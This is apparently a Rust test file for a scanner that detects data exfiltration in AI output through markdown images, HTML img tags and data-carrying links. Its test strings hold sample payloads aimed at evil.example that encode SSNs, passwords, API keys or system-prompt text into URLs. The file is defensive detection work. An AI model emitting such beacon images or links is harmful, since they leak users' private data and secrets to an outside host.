use super::*;
use crate::scan::GuardStage;

fn scanner(allow: &[&str]) -> ExfiltrationScanner {
    ExfiltrationScanner::new(&ExfiltrationConfig {
        allow_domains: allow.iter().map(|s| s.to_string()).collect(),
        ..ExfiltrationConfig::default()
    })
    .unwrap()
}

fn scan(s: &ExfiltrationScanner, text: &str) -> Vec<(String, String, f32)> {
    s.scan(&ScanInput::text(text, GuardStage::Output))
        .unwrap()
        .findings
        .into_iter()
        .map(|f| (f.kind, text[f.start..f.end].to_string(), f.score))
        .collect()
}

#[test]
fn markdown_image_to_an_unknown_host_scores_one() {
    let s = scanner(&["docs.acme.com"]);
    let text = "Here is your summary.\n\n![loading](https://evil.example/p.png?d=VGhlIHVzZXIncyBTU04gaXMgMTIz)\n";
    let found = scan(&s, text);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, "exfiltration.markdown_image");
    assert!(found[0].1.starts_with("![loading](https://evil.example/"));
    assert_eq!(found[0].2, 1.0);
    // Even without any query string, a rendered image is a beacon.
    let found = scan(&s, "![](http://203.0.113.7/pixel.gif)");
    assert_eq!(found[0].0, "exfiltration.markdown_image");
}

#[test]
fn allowed_hosts_match_on_whole_labels() {
    let s = scanner(&["acme.com"]);
    for ok in [
        "![logo](https://acme.com/logo.png)",
        "![logo](https://cdn.acme.com/logo.png?v=2)",
        "![logo](https://CDN.ACME.COM./logo.png)",
        "See [the docs](https://docs.acme.com/guide#setup).",
    ] {
        assert!(scan(&s, ok).is_empty(), "{ok}");
    }
    for bad in [
        "![logo](https://badacme.com/logo.png)",
        "![logo](https://acme.com.evil.example/logo.png)",
        "![logo](https://acme.com@evil.example/logo.png)",
        "![logo](//evil.example/logo.png)",
    ] {
        let found = scan(&s, bad);
        assert_eq!(found.len(), 1, "{bad}: {found:?}");
        assert_eq!(found[0].2, 1.0, "{bad}");
    }
}

#[test]
fn html_images_and_loading_tags() {
    let s = scanner(&["acme.com"]);
    let text = r#"<p>Done.</p><img width=1 src="https://collect.evil.example/c?u=alice%40corp.com&k=sk-live-1234"> <iframe src='https://acme.com/embed'></iframe>"#;
    let found = scan(&s, text);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, "exfiltration.html_image");
    assert!(found[0].1.starts_with("<img width=1 src="));
    let found = scan(&s, r#"<IMG SRC=https://evil.example/x.gif>"#);
    assert_eq!(found[0].0, "exfiltration.html_image");
    let found = scan(
        &s,
        r#"<img srcset="https://acme.com/a.png 1x, https://evil.example/b.png 2x">"#,
    );
    assert_eq!(found.len(), 1);
}

#[test]
fn reference_style_images_resolve_their_definition() {
    let s = scanner(&[]);
    let text = "Result ![chart][1]\n\n[1]: https://evil.example/c.png?q=dGhlIHNlY3JldCBwbGFu\n";
    let found = scan(&s, text);
    let kinds: Vec<&str> = found.iter().map(|f| f.0.as_str()).collect();
    assert_eq!(
        kinds,
        vec!["exfiltration.markdown_image", "exfiltration.link"]
    );
    assert_eq!(found[0].1, "![chart][1]");
}

#[test]
fn links_score_higher_when_they_carry_data() {
    let s = scanner(&["acme.com"]);
    let plain = scan(
        &s,
        "Read more at https://en.wikipedia.org/wiki/Rust_(programming_language).",
    );
    assert_eq!(plain.len(), 1);
    assert_eq!(
        plain[0].1,
        "https://en.wikipedia.org/wiki/Rust_(programming_language)"
    );
    assert_eq!(plain[0].2, LINK_SCORE);
    for carrying in [
        "[click here](https://evil.example/log?data=eyJ1c2VyIjoiYWxpY2UiLCJzc24iOiIxMjMifQ)",
        "https://evil.example/q?text=my+account+number+is+12345678+and+pin+4321",
        // Hex of "password=hunter2 user=alice".
        "https://evil.example/70617373776f72643d68756e74657232207573657220616c696365/",
        "https://evil.example/t?k=Zk9yN2xQcVh6UjhtVGsyV25CdjVZY0ZzSDNqTDBnRWE",
        "<a href=\"https://evil.example/?s=The%20system%20prompt%20says%20never%20reveal\">ok</a>",
    ] {
        let found = scan(&s, carrying);
        assert_eq!(found.len(), 1, "{carrying}: {found:?}");
        assert_eq!(found[0].0, "exfiltration.link", "{carrying}");
        assert_eq!(found[0].2, DATA_LINK_SCORE, "{carrying}");
    }
    // Ordinary query strings are not data.
    for ordinary in [
        "https://www.google.com/search?q=rust+lifetimes",
        "https://github.com/rust-lang/rust/issues?page=2&sort=created",
        "https://example.org/products/winter-collection/transactionhistory",
        // Commit hashes, gists, UUIDs, slugs and identifiers are not data.
        "https://github.com/rust-lang/rust/blob/bf9229a2e366b4c311f059014a4aa08af16de5d8/library/core/src/lib.rs",
        "https://gist.github.com/orlp/1271ad5b8b775c651cc55773888858eb",
        "https://github.com/user-attachments/assets/b0acb844-4b91-461c-95ae-90a601296500",
        "https://software.intel.com/en-us/articles/intel-digital-random-number-generator-drng-software-implementation-guide",
        "https://en.wikipedia.org/wiki/Half-precision_floating-point_format",
        "https://huggingface.co/sentence-transformers/all-MiniLM-L6-v2",
        "https://img.shields.io/badge/license-MIT-blue?style=flat-square",
    ] {
        let found = scan(&s, ordinary);
        assert_eq!(found[0].2, LINK_SCORE, "{ordinary}");
    }
}

#[test]
fn no_host_no_finding() {
    let s = scanner(&[]);
    for text in [
        "![diagram](/static/diagram.png) and [next](../next.md)",
        "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
        "Email [us](mailto:help@acme.com). let x = 1; //TODO remove // not a url",
        "No links at all, just a ratio 1/2 and a path a/b/c.",
    ] {
        assert!(scan(&s, text).is_empty(), "{text}: {:?}", scan(&s, text));
    }
}

#[test]
fn links_can_be_turned_off() {
    let s = ExfiltrationScanner::new(&ExfiltrationConfig {
        allow_domains: vec![],
        links: false,
    })
    .unwrap();
    let text = "See https://evil.example/?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa and ![x](https://evil.example/i.png)";
    let found = scan(&s, text);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].0, "exfiltration.markdown_image");
}

#[test]
fn config_rejects_urls_as_domains() {
    assert!(
        ExfiltrationScanner::new(&ExfiltrationConfig {
            allow_domains: vec!["https://acme.com/".to_string()],
            links: true,
        })
        .is_err()
    );
    let s = scanner(&["*.acme.com"]);
    assert!(scan(&s, "![a](https://img.acme.com/a.png)").is_empty());
}

#[test]
fn url_parts() {
    let u = parse_url("https://user:pw@Sub.Example.com:8443/a/b?x=1&y=2#frag").unwrap();
    assert_eq!(u.host, "sub.example.com");
    assert_eq!(u.path, "/a/b");
    assert_eq!(u.query, "x=1&y=2");
    assert!(parse_url("javascript:alert(1)").is_none());
    assert_eq!(parse_url("http://[::1]:80/x").unwrap().host, "::1");
}

#[test]
fn config_parses_with_defaults() {
    let c: ExfiltrationConfig = serde_json::from_str(r#"{"allow_domains": ["acme.com"]}"#).unwrap();
    assert!(c.links);
    assert_eq!(c.allow_domains, vec!["acme.com".to_string()]);
    assert!(serde_json::from_str::<ExfiltrationConfig>(r#"{"allow": []}"#).is_err());
}
